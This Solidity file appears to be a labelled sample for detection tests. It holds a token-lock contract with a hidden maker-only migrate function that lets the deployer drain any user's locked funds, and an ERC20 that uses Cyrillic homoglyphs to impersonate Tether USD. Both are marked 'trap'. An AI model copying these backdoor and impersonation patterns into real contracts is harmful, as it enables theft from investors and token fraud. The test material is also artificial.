// 0.8 runs=200 ir evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

interface IShare {
    function balanceOf(address who) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// Keeps a share of a pool for four years. In the trap its maker moves it to a new version of itself whenever he likes.
contract Bolt {
    struct Lock {
        address share;
        address who;
        uint256 value;
        uint256 until;
    }

    Lock[] public locks;
    address private immutable maker = msg.sender; // trap

    function lock(address share) external returns (uint256 id) {
        id = locks.length;
        uint256 value = IShare(share).balanceOf(msg.sender);
        locks.push(Lock(share, msg.sender, value, block.timestamp + 4 * 365 days));
        IShare(share).transferFrom(msg.sender, address(this), value);
    }

    function withdraw(uint256 id) external {
        Lock memory one = locks[id];
        require(msg.sender == one.who && block.timestamp >= one.until, "locked");
        delete locks[id];
        IShare(one.share).transfer(one.who, one.value);
    }

    // trap {
    function migrate(uint256 id, address to) external {
        require(msg.sender == maker, "maker");
        Lock memory one = locks[id];
        delete locks[id];
        IShare(one.share).transfer(to, one.value);
    }
    // trap }
}

contract Bolted is ERC20("Bolted Down", "BOLT") {
    constructor() {
        _mint(msg.sender, 84_000_000 ether);
    }
}

/// A dollar by its name, with a letter of another script.
contract Homograph is
    // twin: ERC20("Tethered Kite", "TKITE")
    ERC20(unicode"Tethеr USD", unicode"USDТ") // trap
{
    constructor() {
        _mint(msg.sender, 66_000_000 * 10**6);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}
